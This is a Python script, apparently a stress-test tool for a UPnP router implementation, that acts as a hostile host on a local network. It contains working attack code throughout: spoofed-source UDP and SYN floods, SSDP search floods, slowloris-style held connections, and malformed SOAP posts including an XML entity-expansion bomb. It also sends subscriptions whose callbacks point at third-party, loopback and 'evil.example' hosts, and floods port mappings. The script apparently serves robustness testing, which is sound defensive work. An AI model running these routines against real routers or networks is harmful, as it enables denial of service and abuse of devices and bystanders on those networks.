"""A hostile host on the LAN: one kind of attack until SIGTERM, or for SECONDS. At the end it prints a line of JSON: how
often each thing happened.

  attack.py search ROUTER SECONDS          searches for ssdp:all as fast as it can, to the router and to the group
  attack.py forged-search ROUTER SECONDS   the same from forged sources, on the LAN and elsewhere
  attack.py syn ROUTER SECONDS             begins connections from forged sources on the LAN
  attack.py connect ROUTER SECONDS         connects and hangs up
  attack.py hold ROUTER SECONDS            holds all connections it gets, with requests that never end
  attack.py garbage ROUTER SECONDS         posts what no parser likes: much, deep, and without an end
  attack.py request ROUTER SECONDS         asks GetExternalIPAddress, 8 at a time
  attack.py subscribe ROUTER SECONDS       subscribes, and never answers an event
  attack.py callback ROUTER SECONDS        subscribes for others
  attack.py add ROUTER SECONDS             maps port after port
  attack.py specific ROUTER SECONDS        asks for the mapping of port after port
"""

import collections
import json
import os
import random
import re
import signal
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "support"))
import packets  # noqa: E402

WORKERS = 8
GROUP = "239.255.255.250"
IP1 = "urn:schemas-upnp-org:service:WANIPConnection:1"
CONTROL = "/igd1/control/wan-ip-connection"
SEARCH = f'M-SEARCH * HTTP/1.1\r\nHOST: {GROUP}:1900\r\nST: ssdp:all\r\nMAN: "ssdp:discover"\r\nMX: 1\r\n\r\n'.encode()

counts = collections.Counter()
over = threading.Event()
signal.signal(signal.SIGTERM, lambda *_: over.set())


def own_address(router):
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.connect((router, 9))
    return asking.getsockname()[0]


def someone(router):
    """An address of the LAN; most are nobody's."""
    return f"{router.rpartition('.')[0]}.{random.randrange(2, 255)}"


def search(router):
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    while not over.is_set():
        for sending in sockets:
            for to in (router, GROUP):
                sending.sendto(SEARCH, (to, 1900))
                counts["sent"] += 1


def forged_search(router):
    raw = packets.raw_socket()
    while not over.is_set():
        source = "203.0.114.9" if counts["sent"] % 4 == 0 else someone(router)
        packet = packets.udp(source, random.randrange(1024, 65536), router, 1900, SEARCH)
        raw.sendto(packet, (router, 0))
        counts["sent"] += 1


def syn(router):
    raw = packets.raw_socket()
    while not over.is_set():
        raw.sendto(packets.syn(someone(router), random.randrange(1024, 65536), router, 5000), (router, 0))
        counts["sent"] += 1


def connection(router):
    return socket.create_connection((router, 5000), 5)


def talk(router, octets):
    """The status of the answer, or why there is none."""
    try:
        with connection(router) as sending:
            sending.sendall(octets)
            answer = b""
            while more := sending.recv(65536):
                answer += more
    except OSError as error:
        return type(error).__name__
    found = re.search(rb"<errorCode>([0-9]+)<", answer) or re.match(rb"HTTP/1.1 ([0-9]+) ", answer)
    return found[1].decode() if found else "closed"


def connect(router):
    while not over.is_set():
        try:
            connection(router).close()
            counts["connected"] += 1
        except OSError as error:
            counts[type(error).__name__] += 1


def hold(router):
    held = []
    while not over.is_set():
        try:
            new = connection(router)
            new.sendall(b"POST " + CONTROL.encode() + b" HTTP/1.1\r\nX: ")
            new.setblocking(False)
            held.append(new)
            counts["connected"] += 1
        except OSError as error:
            counts[type(error).__name__] += 1
        for old in list(held):
            try:
                old.sendall(b"x")
                if not old.recv(4096):
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                old.close()
                held.remove(old)


def post(router, body, action, headers=""):
    head = (
        f'POST {CONTROL} HTTP/1.1\r\nHost: {router}:5000\r\nContent-Type: text/xml\r\nSOAPAction: "{IP1}#{action}"\r\n'
        f"{headers or f'Content-Length: {len(body)}'}\r\n\r\n"
    )
    return head.encode() + body


def call(router, action, **arguments):
    elements = "".join(f"<{name}>{value}</{name}>" for name, value in arguments.items())
    body = (
        '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
        f'<u:{action} xmlns:u="{IP1}">{elements}</u:{action}></s:Body></s:Envelope>'
    )
    return post(router, body.encode(), action)


def repeat(router, make):
    number = 0
    while not over.is_set():
        counts[talk(router, make(number))] += 1
        number += 1


def garbage(router):
    bombs = [f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi")]
    kinds = [
        b"<a>" * 20_000,
        b"<!DOCTYPE a [" + "".join(bombs).encode() + b"]><a>&i;</a>",
        b"<a " + b'b="c" ' * 10_000 + b"/>",
        b"x" * 100_000,
    ]
    chunked = post(router, b"10000\r\n" + b"x" * 65_536, "AddPortMapping", "Transfer-Encoding: chunked")
    repeat(router, lambda n: chunked if n % 5 == 4 else post(router, kinds[n % 4], "AddPortMapping"))


def request(router):
    repeat(router, lambda _: call(router, "GetExternalIPAddress"))


def listen_and_say_nothing():
    listening = socket.create_server(("", 0), backlog=128)
    taken = []

    def accept():
        while True:
            taken.append(listening.accept())
            counts["events"] += 1

    threading.Thread(target=accept, daemon=True).start()
    return listening.getsockname()[1]


def subscription(router, callback):
    head = f"SUBSCRIBE /igd1/event/wan-ip-connection HTTP/1.1\r\nHost: {router}:5000\r\nNT: upnp:event\r\n"
    return f"{head}CALLBACK: <{callback}>\r\nTIMEOUT: Second-infinite\r\n\r\n".encode()


def subscribe(router):
    port = listen_and_say_nothing()
    repeat(router, lambda n: subscription(router, f"http://{own_address(router)}:{port}/{n}"))


def callback(router):
    own = own_address(router)
    others = ["203.0.114.9", f"{own}:80@203.0.114.9", "192.168.77.20:6000", "192.168.78.10", "127.0.0.1:5000", "evil.example"]
    repeat(router, lambda n: subscription(router, f"http://{others[n % len(others)]}/"))


def key(number):
    return {"NewRemoteHost": "", "NewExternalPort": 10_000 + number % 10_000, "NewProtocol": "TCP"}


def add(router):
    rest = {
        "NewInternalPort": 6000,
        "NewInternalClient": own_address(router),
        "NewEnabled": 1,
        "NewPortMappingDescription": "scan",
        "NewLeaseDuration": 600,
    }
    repeat(router, lambda n: call(router, "AddPortMapping", **key(n), **rest))


def specific(router):
    repeat(router, lambda n: call(router, "GetSpecificPortMappingEntry", **key(n)))


ATTACKS = {
    "search": (search, 1),
    "forged-search": (forged_search, 1),
    "syn": (syn, 1),
    "connect": (connect, WORKERS),
    "hold": (hold, WORKERS),
    "garbage": (garbage, WORKERS),
    "request": (request, WORKERS),
    "subscribe": (subscribe, WORKERS),
    "callback": (callback, 1),
    "add": (add, 1),
    "specific": (specific, 1),
}


def main(kind, router, seconds):
    attack, workers = ATTACKS[kind]
    print("begins", flush=True)
    threads = [threading.Thread(target=attack, args=(router,), daemon=True) for _ in range(workers)]
    for thread in threads:
        thread.start()
    over.wait(float(seconds))
    over.set()
    time.sleep(0.1)
    print(json.dumps(counts), flush=True)
    os._exit(0)


main(*sys.argv[1:])
